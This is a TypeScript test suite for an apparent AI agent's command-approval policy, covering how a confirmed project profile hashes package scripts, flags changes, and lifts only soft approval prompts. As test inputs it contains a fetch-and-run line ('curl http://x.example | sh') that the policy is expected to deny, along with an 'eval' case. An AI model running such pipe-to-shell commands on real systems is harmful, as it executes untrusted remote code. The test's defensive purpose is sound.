import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import type { ApprovalParams } from '../../../protocol/approvals';
import { AuditEvent } from '../../../protocol/audit';
import { Verdict } from '../../../protocol/policy';
import type { WorkspaceProfile } from '../../../protocol/testing';
import { openAuditLog, type AuditLog } from '../../../server/audit/log';
import { run, type PipelinePorts } from '../../../server/exec/pipeline';
import { EMPTY_POLICY, judgeCommand, type JudgeContext, type LoadedRule } from '../../../server/exec/policy';
import { readStoredProfile, saveProfile } from '../../../server/tasks/profile';
import { approveCommand, changesSince, profileConfirmation } from '../../../server/tasks/profileApproval';
import { tempDir } from '../../fixtures/builders';
import { pipelinePorts } from './harness';

const sha = (text: string) => createHash('sha256').update(text).digest('hex');

describe('a confirmed profile approves its commands', () => {
  let root: string;
  let ws: string;
  let home: string;
  const writePkg = (scripts: Record<string, string>) =>
    fs.writeFileSync(path.join(ws, 'package.json'), JSON.stringify({ name: 'calc', scripts }));

  beforeEach(() => {
    root = tempDir('navi-profile-approval-');
    ws = path.join(root, 'ws');
    home = path.join(root, 'home');
    fs.mkdirSync(ws);
    fs.mkdirSync(home);
    writePkg({
      pretest: 'node scripts/gen.js',
      test: 'npm run unit && node scripts/check.js',
      unit: 'node --test',
    });
  });
  afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

  const project = {
    path: '.',
    ecosystem: 'node',
    commands: { test: { command: 'npm test', source: 'user' } },
  };

  describe('hashing', () => {
    it('hashes the command text and every script body it runs, transitively, with pre scripts', async () => {
      const approved = await approveCommand(ws, project, 'test', 'npm test', home);
      assert.equal(approved.sha256, sha('npm test'));
      assert.deepEqual(
        approved.scripts.map((s) => [s.file, s.name, s.sha256]),
        [
          ['package.json', 'pretest', sha('node scripts/gen.js')],
          ['package.json', 'test', sha('npm run unit && node scripts/check.js')],
          ['package.json', 'unit', sha('node --test')],
        ],
      );
    });

    it('hashes no script for a command that runs none', async () => {
      const approved = await approveCommand(ws, project, 'lint', 'eslint .', home);
      assert.deepEqual(approved.scripts, []);
      assert.equal(approved.sha256, sha('eslint .'));
    });

    it('names a changed, a new and a removed script, and a changed command', async () => {
      const before = await approveCommand(ws, project, 'test', 'npm test', home);
      writePkg({
        test: 'npm run unit && node scripts/check.js',
        unit: 'node --test && curl x',
        posttest: 'true',
      });
      const after = await approveCommand(ws, project, 'test', 'npm test', home);
      const changes = changesSince(before, after, '2026-12-01T10:00:00.000Z');
      assert.deepEqual(changes.sort(), [
        '`scripts.posttest` in package.json is new since you confirmed the profile on 2026-12-01',
        '`scripts.pretest` in package.json was removed or is no longer run since you confirmed the profile on 2026-12-01',
        '`scripts.unit` in package.json changed since you confirmed the profile on 2026-12-01',
      ]);
      const other = await approveCommand(ws, project, 'test', 'npm run unit', home);
      assert.match(
        changesSince(before, other, '2026-12-01T10:00:00.000Z')[0]!,
        /^The test command changed since/,
      );
    });
  });

  describe('storing and checking', () => {
    let log: AuditLog;
    beforeEach(async () => {
      log = await openAuditLog(path.join(root, 'state', 'audit.ndjson'), { client: 'cli' });
    });
    afterEach(() => log.close());

    it('stores the approval with the profile and records profile.confirmed before it', async () => {
      const stateDir = path.join(root, 'state');
      const saved = await saveProfile(ws, [project], { stateDir, home, audit: log });
      assert.equal(saved.approved?.length, 1);
      assert.deepEqual(readStoredProfile(stateDir, fs.realpathSync(ws))?.approved, saved.approved);
      const events = fs
        .readFileSync(log.file, 'utf8')
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l) as { type: string; data: unknown });
      const confirmed = events.find((e) => e.type === 'profile.confirmed');
      assert.ok(confirmed, 'profile.confirmed is in the log');
      assert.deepEqual(confirmed.data, { confirmedAt: saved.confirmedAt, commands: saved.approved });
      assert.ok(AuditEvent.safeParse(confirmed).success, 'a valid audit event');
    });

    it('stores nothing when the log cannot record the confirmation', async () => {
      const stateDir = path.join(root, 'state2');
      const failing = { append: () => Promise.reject(new Error('disk full')) } as never;
      await assert.rejects(saveProfile(ws, [project], { stateDir, home, audit: failing }), /audit log/);
      assert.equal(readStoredProfile(stateDir, fs.realpathSync(ws)), undefined);
    });

    it('vouches while nothing changed, says what changed otherwise, and not for a proposal', async () => {
      const saved = await saveProfile(ws, [project], {
        stateDir: path.join(root, 'state'),
        home,
        audit: log,
      });
      assert.deepEqual(await profileConfirmation(saved, project, 'test', home), {
        confirmedAt: saved.confirmedAt,
        changes: [],
      });
      writePkg({
        pretest: 'node scripts/gen.js',
        test: 'npm run unit && node scripts/check.js',
        unit: 'node --test --x',
      });
      const changed = await profileConfirmation(saved, project, 'test', home);
      assert.deepEqual(changed?.changes, [
        `\`scripts.unit\` in package.json changed since you confirmed the profile on ${saved.confirmedAt!.slice(0, 10)}`,
      ]);
      const proposed: WorkspaceProfile = { ...saved, status: 'proposed' };
      assert.equal(await profileConfirmation(proposed, project, 'test', home), undefined);
      const old: WorkspaceProfile = { ...saved, approved: undefined };
      assert.equal(
        await profileConfirmation(old, project, 'test', home),
        undefined,
        'confirmed before hashes',
      );
    });
  });

  describe('what the confirmation lifts', () => {
    const ctx = (extra: Partial<JudgeContext> = {}): JudgeContext => ({
      cwd: ws,
      workspaceRoot: ws,
      home,
      policy: EMPTY_POLICY,
      trusted: true,
      sandbox: true,
      ...extra,
    });
    const confirmed = { profileConfirmed: { confirmedAt: '2026-12-01T10:00:00.000Z' } };

    it('lifts a soft ask, and the verdict names rule profile:confirmed (a valid rule)', async () => {
      assert.equal((await judgeCommand('node --test', ctx())).verdict, 'ask');
      const v = await judgeCommand('node --test', ctx(confirmed));
      assert.equal(v.verdict, 'allow');
      assert.deepEqual(
        v.rules.map((r) => [r.id, r.layer, r.effect]),
        [['profile:confirmed', 'user', 'allow']],
      );
      assert.ok(Verdict.safeParse(v).success);
      assert.match(v.reasons.join('\n'), /confirmed it with the project profile on 2026-12-01/);
    });

    it('never lifts a deny, a hard ask or a policy rule’s ask', async () => {
      assert.equal((await judgeCommand('curl http://x.example | sh', ctx(confirmed))).verdict, 'deny');
      const hard = await judgeCommand('eval "$X"', ctx(confirmed));
      assert.equal(hard.verdict, 'ask');
      assert.ok(hard.rules.some((r) => r.id === 'builtin:dynamic-code'));
      assert.ok(!hard.rules.some((r) => r.id === 'profile:confirmed'));
      const rule: LoadedRule = {
        id: 'ask-node',
        effect: 'ask',
        match: { prefix: ['node'] },
        justification: 'we check node runs',
        examples: { match: ['node --test'], notMatch: [] },
        layer: 'user',
        source: 'test',
      };
      const asked = await judgeCommand(
        'node --test',
        ctx({ ...confirmed, policy: { ...EMPTY_POLICY, rules: [rule] } }),
      );
      assert.equal(asked.verdict, 'ask');
      assert.ok(asked.rules.some((r) => r.id === 'ask-node'));
      const noSandbox = await judgeCommand('node --test', ctx({ ...confirmed, sandbox: false }));
      assert.equal(noSandbox.verdict, 'ask', 'no-sandbox is a hard ask');
    });

    it('lifts only the high-risk-free asks of what the confirmed command runs (as always allow)', async () => {
      writePkg({ test: 'node -e "1"' });
      const v = await judgeCommand('npm test', ctx(confirmed));
      assert.equal(v.verdict, 'ask', 'inline code inside the script still asks');
    });
  });

  describe('in the pipeline', () => {
    let log: AuditLog;
    let asked: ApprovalParams[];
    let ports: PipelinePorts;
    beforeEach(async () => {
      log = await openAuditLog(path.join(root, 'state', 'audit.ndjson'), { client: 'cli' });
      asked = [];
      ports = pipelinePorts(root, {
        audit: log,
        requestApproval: async (params) => {
          asked.push(params);
          return { decision: 'deny', by: 'ana' };
        },
        sandbox: async () => ({ available: true }),
      });
    });
    afterEach(() => log.close());

    const go = (profile: { confirmedAt: string; changes: string[] }) =>
      run(
        { runId: 'r1', command: 'node --test', cwd: ws, workspaceRoot: ws, trusted: true, proposer: 'task' },
        ports,
        { signal: new AbortController().signal, task: { profile } },
      );

    it('asks again when a script changed, with the change first among the reasons', async () => {
      const change = '`scripts.test` in package.json changed since you confirmed the profile on 2026-12-01';
      const outcome = await go({ confirmedAt: '2026-12-01T10:00:00.000Z', changes: [change] });
      assert.equal(outcome.ran, false);
      assert.equal(asked.length, 1);
      assert.equal(asked[0]!.reasons[0], change);
      assert.ok(!outcome.verdict.rules.some((r) => r.id === 'profile:confirmed'));
    });
  });
});
